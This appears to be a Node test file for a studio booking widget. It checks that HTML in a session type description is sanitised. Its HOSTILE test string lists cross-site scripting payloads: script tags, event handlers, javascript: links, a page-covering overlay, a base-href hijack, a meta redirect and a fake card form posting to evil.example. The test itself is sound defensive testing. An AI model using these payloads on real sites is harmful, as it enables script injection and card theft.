// Hostile content: a session type description (studio-written HTML) carrying scripts, event
// handlers, javascript: links, inline styles, a stylesheet, frames and forms changes nothing
// on the page and runs nothing; only simple formatting and safe links survive. The host page
// here has no Content-Security-Policy to help.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { foreignStack, hostPage, visit, screenshotDir } from './stack.mjs';

const FAMILY = 'set_FAMILYPORTRAIT0000000000000000';
const HOSTILE = `<p>A relaxed hour for the whole <b>family</b>.</p>
<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'img'">
<a href="javascript:window.__pwned = 'link'">Click me</a>
<a href="  JaVaScRiPt:window.__pwned = 'link2'">Or me</a>
<a href="https://example.com/portfolio" onclick="window.__pwned = 'onclick'" style="position:fixed;inset:0">Our portfolio</a>
<p style="position:fixed;inset:0;background:red;z-index:99999" class="cover">Covering the page</p>
<style>body { display: none } .sb-root { display: none } * { color: red !important }</style>
<iframe src="javascript:parent.__pwned = 'iframe'"></iframe>
<svg onload="window.__pwned = 'svg'"><script>window.__pwned = 'svg-script'</script></svg>
<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button>Pay</button></form>
<div onmouseover="window.__pwned = 'hover'" id="hover-me">Hover here</div>
<math><mi xlink:href="javascript:window.__pwned='math'">x</mi></math>
<details open ontoggle="window.__pwned = 'toggle'"><summary>More</summary></details>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">`;

const stack = foreignStack({
  pages: ({ api, snippet }) => ({ '/': hostPage(`${snippet}<studio-booking id="w" api-base="${api}"></studio-booking>`) }),
});

test('a hostile session type description changes nothing and runs nothing', async () => {
  const r = await fetch(`${stack.mock.url}/__admin/session_types/${FAMILY}/description`, { method: 'POST', body: JSON.stringify({ description: HOSTILE }) });
  assert.equal(r.status, 200);
  const { page, context } = await visit(stack, '/');
  const w = page.locator('#w');
  const card = w.locator('.sb-type').filter({ hasText: 'Family Portrait Session' });
  await card.waitFor();
  await page.waitForTimeout(500); // anything that would load or fire has had its chance
  // The formatting survives; the rest is gone or plain text.
  const description = card.locator('.sb-type-description');
  assert.match(await description.innerText(), /A relaxed hour for the whole family\./);
  assert.equal(await description.locator('b').innerText(), 'family');
  const found = await description.evaluate((d) => ({
    active: d.querySelectorAll('script, style, img, iframe, svg, math, form, input, button, details, base, meta').length,
    styled: d.querySelectorAll('[style]').length,
    handlers: [...d.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')).length,
    links: [...d.querySelectorAll('a')].map((a) => ({ text: a.textContent, href: a.getAttribute('href'), rel: a.rel })),
  }));
  assert.deepEqual({ active: found.active, styled: found.styled, handlers: found.handlers }, { active: 0, styled: 0, handlers: 0 });
  for (const link of found.links) assert.match(link.href ?? 'https:', /^https:/, `${link.text}: ${link.href}`);
  const portfolio = found.links.find((l) => l.text === 'Our portfolio');
  assert.equal(portfolio.href, 'https://example.com/portfolio');
  // Clicking and hovering what is left of them runs nothing (the javascript: links are now
  // plain text under the card's button, so the events are sent to them directly).
  await description.evaluate((d) => {
    for (const el of d.querySelectorAll('*')) {
      if (/Click me|Or me|Hover here/.test(el.textContent) && el.children.length === 0) {
        el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        el.click();
      }
    }
  });
  assert.equal(await description.getByRole('link', { name: 'Click me' }).count(), 0);
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'nothing ran');
  // The page is as it was: visible, not covered, not recoloured, not redirected.
  assert.equal(await page.evaluate(() => getComputedStyle(document.body).display), 'block');
  assert.equal(await page.locator('h1').evaluate((h) => getComputedStyle(h).color), 'rgb(42, 36, 32)');
  assert.equal(await page.evaluate(() => document.elementFromPoint(innerWidth / 2, 40)?.closest('header') !== null), true, 'nothing covers the page');
  assert.equal(new URL(page.url()).origin, stack.site.url);
  assert.equal(await page.evaluate(() => document.baseURI), `${stack.site.url}/`);
  await page.screenshot({ path: join(screenshotDir, 'hostile-description.png'), fullPage: true });
  // And the session type still books its way on.
  await card.getByRole('button', { name: 'Family Portrait Session' }).click();
  await w.getByRole('heading', { name: 'Choose a date and time' }).waitFor();
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  await context.close();
});
